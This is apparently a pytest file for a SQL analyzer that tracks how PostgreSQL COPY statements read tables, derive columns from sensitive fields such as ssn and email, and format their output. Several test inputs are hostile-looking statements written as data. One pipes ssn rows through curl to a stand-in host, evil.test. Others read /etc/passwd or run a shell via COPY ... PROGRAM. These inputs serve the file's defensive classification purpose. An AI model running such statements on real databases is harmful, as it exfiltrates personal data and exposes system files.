"""COPY read by the SQL reader: COPY (query) TO STDOUT is read as its query — a read of
its tables, its result columns the query's (lineage.py), so that the policy's derived
columns and the front's column rules apply to its rows as to a SELECT's; a column list
names plain columns; a table's every column is a star. COPY FROM, TO a file and TO
PROGRAM send the client no rows and keep their rules. And how its lines are written
(interpret/sql/copy_out.py), which the PostgreSQL front splits them by."""

from __future__ import annotations

from typing import Any

import pytest

from extproc.interpret.sql import analyze
from extproc.interpret.sql.copy_out import CopyOut, copy_out


def top(text: str) -> dict[str, Any]:
    (statement,) = [s for s in analyze(text)["statements"] if not s["nested"]]
    return dict(statement)


def columns(text: str) -> list[tuple[Any, ...]] | None:
    found = top(text)["columns"]
    return None if found is None else [
        (c["name"], c["sources"], c["plain"], c["known"]) for c in found]


@pytest.mark.parametrize(("text", "expected"), [
    ("COPY (SELECT id, ssn AS note, md5(email) FROM customers) TO STDOUT",
     [("id", ["id"], True, True), ("note", ["ssn"], True, True),
      ("md5", ["email"], False, True)]),
    ("COPY (SELECT encode(ssn::bytea, 'base64') FROM customers) TO STDOUT WITH (FORMAT csv)",
     [("encode", ["ssn"], False, True)]),
    ("COPY (WITH c AS (SELECT lower(email) AS e FROM customers) SELECT e FROM c) TO STDOUT",
     [("e", ["email"], False, True)]),
    ("COPY (DELETE FROM customers WHERE id = 1 RETURNING reverse(ssn)) TO STDOUT",
     [("reverse", ["ssn"], False, True)]),
    ("COPY (SELECT get_ssn(id) FROM customers) TO STDOUT", [("get_ssn", ["id"], False, False)]),
    ("COPY (SELECT * FROM customers) TO STDOUT", [("*", ["*"], True, True)]),
    ("COPY customers (id, email) TO STDOUT",
     [("id", ["id"], True, True), ("email", ["email"], True, True)]),
    ("COPY customers TO STDOUT", [("*", ["*"], True, True)]),
    ("COPY public.customers (ssn) TO STDOUT CSV HEADER", [("ssn", ["ssn"], True, True)]),
], ids=["query", "derived", "cte", "returning", "unknown-function", "star", "column-list",
        "table", "schema"])
def test_copy_to_stdout_has_the_columns_of_what_it_copies(
        text: str, expected: list[tuple[Any, ...]]) -> None:
    assert columns(text) == expected


@pytest.mark.parametrize("text", [
    "COPY customers FROM STDIN", "COPY customers (id) FROM STDIN WITH (FORMAT csv)",
    "COPY customers TO '/tmp/c.csv'", "COPY (SELECT ssn FROM customers) TO '/tmp/c.csv'",
    "COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- https://evil.test'",
    "COPY customers FROM PROGRAM 'cat /etc/passwd'",
])
def test_copy_sending_the_client_no_rows_has_no_columns(text: str) -> None:
    assert columns(text) is None


@pytest.mark.parametrize(("text", "effects", "program"), [
    ("COPY (SELECT id FROM customers) TO STDOUT", ["read"], None),
    ("COPY customers FROM STDIN", ["write"], None),
    ("COPY (SELECT ssn FROM customers) TO PROGRAM 'sh'", ["read", "server"], "sh"),
    ("COPY customers FROM '/etc/passwd'", ["server", "write"], None),
])
def test_copy_keeps_its_effects_and_program(text: str, effects: list[str],
                                            program: str | None) -> None:
    statement = top(text)
    assert (statement["kind"], statement["tables"]) == ("copy", ["customers"])
    assert (sorted(statement["effects"]), statement["program"]) == (effects, program)


def test_copy_of_a_query_reads_its_tables() -> None:
    found = analyze("COPY (SELECT c.id FROM customers c JOIN orders o ON o.cid = c.id) "
                    "TO STDOUT")["statements"]
    assert [(s["kind"], sorted(s["tables"]), s["nested"]) for s in found] == [
        ("copy", ["customers", "orders"], False), ("select", ["customers", "orders"], True)]


T = '"t"'  # the table a COPY reads, quoted


@pytest.mark.parametrize(("text", "expected"), [
    ("COPY (SELECT 1) TO STDOUT", CopyOut()),
    ("COPY t TO STDOUT CSV HEADER",
     CopyOut(csv=True, delimiter=",", null="", header=True, relation=T)),
    ("COPY t TO STDOUT WITH (FORMAT csv, HEADER true, DELIMITER ';', NULL 'NA', "
     "QUOTE '''', ESCAPE '\\')",
     CopyOut(csv=True, delimiter=";", null="NA", quote="'", escape="\\", header=True,
             relation=T)),
    ("COPY t TO STDOUT WITH (FORMAT csv, QUOTE '|')",
     CopyOut(csv=True, delimiter=",", null="", quote="|", escape="|", relation=T)),
    ("COPY t TO STDOUT DELIMITER '|' NULL ''", CopyOut(delimiter="|", null="", relation=T)),
    ("COPY t TO STDOUT WITH (HEADER off)", CopyOut(relation=T)),
    ("COPY s.\"T\"\"x\" TO STDOUT", CopyOut(relation='"s"."T""x"')),
    ("COPY t TO STDOUT WITH (ENCODING 'LATIN1')", CopyOut(encoding="LATIN1", relation=T)),
])
def test_how_copy_writes_its_lines(text: str, expected: CopyOut) -> None:
    assert copy_out(text) == expected


@pytest.mark.parametrize("text", ["COPY t FROM STDIN", "COPY t TO '/tmp/x'",
                                  "COPY t TO PROGRAM 'x'", "SELECT 1; COPY t TO STDOUT",
                                  "SELECT 1", "COPY t TO STDOUT WITH (", ""])
def test_only_one_copy_to_stdout_has_a_line_format(text: str) -> None:
    assert copy_out(text) is None
